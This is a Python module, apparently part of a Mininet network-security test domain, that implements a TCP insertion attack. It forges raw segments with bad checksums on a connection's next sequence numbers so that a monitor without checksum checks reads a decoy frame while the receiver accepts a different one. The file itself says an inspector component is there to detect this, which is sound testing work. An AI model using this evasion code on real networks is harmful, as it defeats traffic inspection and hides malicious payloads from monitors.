"""The insertion attack's wire half: bytes a tap reads and the receiver never does.

Before each poisoned frame, the attacker writes its honest frame onto the connection's next
sequence numbers itself, as raw segments whose TCP checksum is wrong: the receiver's kernel drops
them, then takes the poisoned frame its socket sends over the same sequence numbers, while a
monitor that reassembles the stream without checking checksums reads the honest frame first
(Ptacek and Newsham, 1998). The domain's inspection compares every byte read twice and names the
sender (:class:`controllers.inspector.StreamAssembler`).

Needs root in the host's namespace (a packet socket, and ``TCP_REPAIR`` to read where the
connection's next byte goes), as every Mininet host has.
"""

from __future__ import annotations

import socket
import struct
from pathlib import Path

TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ = 19, 20, 21  # linux/tcp.h; Python does not name them
TCP_NO_QUEUE, TCP_SEND_QUEUE = 0, 2
TCP_REPAIR_ON, TCP_REPAIR_OFF_NO_WP = 1, -1
DECOY_SEGMENT = 1400
"""Payload bytes a forged segment carries: under any host link's MTU."""
BAD_CHECKSUM = 0xDEAD


class InsertionError(OSError):
    """The decoy could not be written: what is missing is named."""


def next_sequence(sock: socket.socket) -> int:
    """The sequence number the connection's next written byte will carry (Linux ``TCP_REPAIR``:
    entered and left at once, without a window probe)."""
    sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, TCP_REPAIR_ON)
    try:
        sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, TCP_SEND_QUEUE)
        (seq,) = struct.unpack("I", sock.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, 4))
        sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, TCP_NO_QUEUE)
    finally:
        sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, TCP_REPAIR_OFF_NO_WP)
    return seq


def neighbour_link(ip: str, arp_table: Path = Path("/proc/net/arp")) -> tuple[str, str]:
    """(device, MAC address) through which this host reaches ``ip``: its ARP entry, there once a
    connection to it is open."""
    for line in arp_table.read_text().splitlines()[1:]:
        fields = line.split()
        if len(fields) >= 6 and fields[0] == ip and fields[3] != "00:00:00:00:00:00":
            return fields[5], fields[3]
    raise InsertionError(f"no ARP entry for {ip}: no open connection to it")


def decoy_segments(decoy: bytes, seq: int, source: tuple[str, int], destination: tuple[str, int],
                   macs: tuple[str, str]) -> list[bytes]:
    """``decoy`` as the Ethernet frames of TCP segments from ``seq`` on, each with a wrong
    checksum (``macs``: source, destination)."""
    from scapy.layers.inet import IP, TCP
    from scapy.layers.l2 import Ether

    frames = []
    for at in range(0, len(decoy), DECOY_SEGMENT):
        frames.append(bytes(Ether(src=macs[0], dst=macs[1]) / IP(src=source[0], dst=destination[0], flags="DF")
                            / TCP(sport=source[1], dport=destination[1], seq=(seq + at) % 2**32, flags="PA",
                                  window=65535, chksum=BAD_CHECKSUM) / decoy[at:at + DECOY_SEGMENT]))
    return frames


def write_ahead(sock: socket.socket, decoy: bytes) -> None:
    """Send ``decoy`` on the connected ``sock``'s next sequence numbers, where the next
    ``sendall`` will put its own bytes, on segments its peer's TCP drops."""
    device, peer_mac = neighbour_link(sock.getpeername()[0])
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((device, 0))
        own_mac = raw.getsockname()[4].hex(":")  # the device's address (sysfs shows the root namespace's)
        frames = decoy_segments(decoy, next_sequence(sock), sock.getsockname(), sock.getpeername(),
                                (own_mac, peer_mac))
        for frame in frames:
            raw.send(frame)
